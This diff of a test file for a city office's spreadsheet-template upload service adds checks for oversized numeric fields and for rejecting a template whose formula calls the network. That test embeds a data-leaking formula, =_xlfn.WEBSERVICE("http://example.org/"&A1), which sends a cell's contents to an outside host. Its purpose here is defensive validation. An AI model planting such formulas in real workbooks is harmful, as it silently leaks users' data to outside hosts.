@@ -108,7 +108,10 @@ def test_two_people_change_a_form_at_once_and_the_second_is_told(office: Client)
 def test_a_line_is_taken_out_a_template_changed_and_a_form_ended(office: Client):
     form = keep(office, "figures", STATISTICS)
     change(office, form, "figure", target="B3", measure="found", programme=AID, county="")
-    office.post(f"/city/forms/{form.uid}/renew/", {"version": 2, "file": SimpleUploadedFile("新.xlsx", workbook(("新表",)))})
+    office.post(
+        f"/city/forms/{form.uid}/renew/",
+        {"version": 2, "file": SimpleUploadedFile("新.xlsx", workbook(("新表",), (), ("盐湖区", "数", "数")))},
+    )
     assert form.versions.latest("number").mapping[0]["target"] == "B3"
     broken = workbook(*[("行",)] * 2, formula="=1")
     office.post(f"/city/forms/{form.uid}/remove/", {"version": 3, "place": "0"})
@@ -176,4 +179,17 @@ def test_a_file_that_is_no_template_is_refused(office: Client):
     answer = office.post("/city/forms/", {"name": "x", "kind": "figures", "area": "", "file": SimpleUploadedFile("x.xlsx", b"PK nothing")})
     assert answer.status_code == 200
     assert "文件已损坏" in answer.content.decode()
+    assert not Form.objects.exists()
+
+
+def test_a_number_of_five_thousand_digits_is_none(office: Client):
+    form = keep(office, "figures", STATISTICS)
+    assert office.post(f"/city/forms/{form.uid}/remove/", {"version": 1, "place": "9" * 5000}).status_code == 404
+    assert change(office, form, "figure", version="9" * 5000, target="B3", measure="day", programme="", county="").status_code == 200
+
+
+def test_a_template_that_asks_the_network_is_refused_with_sheet_and_cell(office: Client):
+    file = SimpleUploadedFile("外.xlsx", workbook(("名单",), formula='=_xlfn.WEBSERVICE("http://example.org/"&A1)'))
+    answer = office.post("/city/forms/", {"name": "外", "kind": "figures", "area": "", "file": file})
+    assert "表1!C6：公式会连到工作簿以外" in answer.content.decode()
     assert not Form.objects.exists()
